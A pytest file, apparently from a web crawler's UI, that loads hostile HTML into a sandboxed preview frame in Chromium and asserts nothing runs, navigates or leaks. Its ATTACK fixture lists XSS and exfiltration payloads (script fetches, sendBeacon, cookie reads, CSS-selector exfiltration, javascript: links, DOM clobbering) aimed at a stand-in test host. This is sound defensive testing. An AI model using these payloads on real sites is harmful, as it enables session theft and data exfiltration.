"""Hostile pages in the preview's frame, in a real Chromium: nothing runs, nothing is asked, nothing gets out."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from crawlkit.webui.preview import headers
from crawlkit.webui.security import security_headers
from tests.webui.crawled import Site, fetch, site
from tests.webui.servers import Client, Running, in_thread
from tests.webui.test_preview import VECTORS
from tests.webui.test_selector_panel import expect, mounted

# What scripts of a page would do if they ran, and what needs no script
ATTACK = """
<meta http-equiv="refresh" content="0;url=SITE/evil/refresh"><base href="SITE/evil/">
<link rel="stylesheet" href="SITE/evil/sheet"><link rel="prefetch" href="SITE/evil/prefetch">
<link rel="preconnect" href="SITE"><link rel="icon" href="SITE/evil/icon">
<style>@import "SITE/evil/import"; body { background: url(SITE/evil/background) }
input[value^="s"] { background: url(SITE/evil/exfil) } @font-face { font-family: x; src: url(SITE/evil/font) }
p { font-family: x } ck-overlay, [data-ck] { display: block }</style>
<body onload="fetch('SITE/evil/onload')">
<h1 id="title">Hello</h1><input value="secret"><p>text</p>
<script>
  fetch("SITE/evil/fetch"); new Image().src = "SITE/evil/image"; alert(document.cookie);
  window.top.location = "SITE/evil/top"; navigator.serviceWorker.register("/sw.js");
  parent.document.body.remove(); window.open("SITE/evil/open");
  navigator.sendBeacon("SITE/evil/beacon"); new WebSocket("ws://x.test"); document.forms[0].submit();
</script>
<form action="SITE/evil/form"><input name="a" value="b" autofocus onfocus="alert(1)">
<button id="submit">go</button></form>
<a id="script" href="javascript:alert(1)">a</a> <a id="data" href="data:text/html,<script>alert(1)</script>">b</a>
<a id="top" href="SITE/evil/link" target="_top">c</a>
<a id="blank" href="SITE/evil/blank" target="_blank" ping="SITE/evil/ping">d</a>
<img src="SITE/evil/img" onerror="alert(1)"><img src="SITE/evil/set" srcset="SITE/evil/srcset 2x">
<iframe src="SITE/evil/frame"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="SITE/evil/object"></object><embed src="SITE/evil/embed">
<video src="SITE/evil/video" poster="SITE/evil/poster" autoplay></video>
<svg><image href="SITE/evil/svgimage"/><use href="SITE/evil/use#x"/><script>alert(1)</script></svg>
<img name="querySelectorAll"><img name="body"><form id="documentElement"><input name="closest"></form>
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """One web UI for all tests here."""
    with in_thread(tmp_path_factory.mktemp("helper") / "data") as running:
        yield running


@pytest.fixture(scope="module")
def client(server: Running) -> Client:
    return server.client()


@pytest.fixture
def hostile() -> Iterator[Site]:
    with site() as made:
        yield made


class Told:
    """What a browser asked for, and what it showed."""

    def __init__(self, page: Any) -> None:
        self.asked: list[tuple[str, bool]] = []
        self.dialogs: list[str] = []
        self.pages: list[str] = []
        page.context.on("request", lambda request: self.asked.append((request.url, "cookie" in request.headers)))
        page.context.on("page", lambda other: self.pages.append(other.url))
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))


def test_R62_R59_a_hostile_page_does_nothing_in_the_preview(
    new_page: Any, server: Running, client: Client, hostile: Site
) -> None:
    """The fixture fails the test for any error on the console, so also for anything that the policy had to refuse."""
    url = hostile.put(
        "/attack", f"<!doctype html><html><head>{ATTACK.replace('SITE', hostile.url)}{''.join(VECTORS)}</html>"
    )
    page = new_page(server)
    frame = mounted(page, client, url)
    told = Told(page)
    before = page.url
    for place in ("#script", "#data", "#top", "#blank", "#submit", "img"):
        frame.locator(place).first.click(force=True, modifiers=["Control"] if place == "#blank" else None)
    page.get_by_role("button", name="Pick an element").click()
    frame.locator("#title").click()
    expect(page.locator(".selector-count")).to_contain_text("1 element")
    assert [path for path, _ in hostile.asked] == ["/attack"]
    assert page.url == before
    assert told.dialogs == []
    assert told.pages == []
    assert not [address for address, _ in told.asked if not address.startswith(server.url)]
    inside = page.frames[1]
    assert inside.evaluate("window.origin") == "null"
    for reach in ("document.cookie", "localStorage.length", "parent.document.title", "top.location.href"):
        refused = inside.evaluate(
            "() => { try { return String(READ); } catch (error) { return error.name; } }".replace("READ", reach)
        )
        assert refused == "SecurityError", reach


def test_R62_the_frames_policy_holds_by_itself(new_page: Any, server: Running, hostile: Site) -> None:
    """Pages as they are, nothing left out: each in a frame with its headers, all in a page with ours.

    Jupyter, CVE-2018-21030 and CVE-2018-19351: files of users stood in the server's own origin.
    """
    vectors = [*VECTORS, *ATTACK.replace("SITE", hostile.url).splitlines()]
    page = new_page(server, enter=False, watch=False)
    told = Told(page)

    def answer(route: Any) -> None:
        name = route.request.url.removeprefix(f"{server.url}/")
        if name == "outer":
            frames = "".join(f'<iframe sandbox="allow-scripts" src="/{at}"></iframe>' for at in range(len(vectors)))
            route.fulfill(
                body=f"<!doctype html>{frames}", headers={"Content-Type": "text/html", **security_headers("n")}
            )
        elif name.isdigit():
            body = (
                f"<!doctype html><html><body>{vectors[int(name)]}</textarea></style></title></xmp></noscript><p>end</p>"
            )
            route.fulfill(body=body, headers=headers("nonce"))
        else:
            route.continue_()

    page.route(f"{server.url}/*", answer)
    page.goto(f"{server.url}/outer", wait_until="load")
    assert len(page.frames) >= len(vectors)
    assert told.dialogs == []
    assert [path for path, _ in hostile.asked if path.startswith("/evil")] == []
    inside = page.frames[1]
    asked = inside.evaluate(
        "(url) => fetch(url, {credentials: 'include'}).then((got) => String(got.status), (error) => error.name)",
        f"{server.url}/api/v1/me",
    )
    assert asked == "TypeError"


def test_R62_the_preview_is_only_for_who_may_see_the_page(server: Running, client: Client, hostile: Site) -> None:
    page = fetch(client, hostile.put("/", "<p>x</p>"))
    path = f"/projects/shop/pages/{page}/preview?channel=0123456789abcdef"
    answer = client.get(path)
    assert answer.status == 200
    assert answer.headers["Content-Security-Policy"].startswith("sandbox allow-scripts; default-src 'none'")
    assert answer.headers["X-Frame-Options"] == "SAMEORIGIN"
    assert answer.headers["Cache-Control"] == "no-store"
    assert "Set-Cookie" not in answer.headers
    assert Client(client.url).get(path).status in (302, 303, 401)
    assert client.get(f"/projects/other/pages/{page}/preview?channel=0123456789abcdef").status == 404
    assert client.get("/projects/shop/pages/nosuch/preview?channel=0123456789abcdef").status == 404
    for channel in ("", "short", "x" * 65, "<script>0123456789"):
        assert client.get(f"/projects/shop/pages/{page}/preview?channel={channel.replace('<', '%3C')}").status == 400
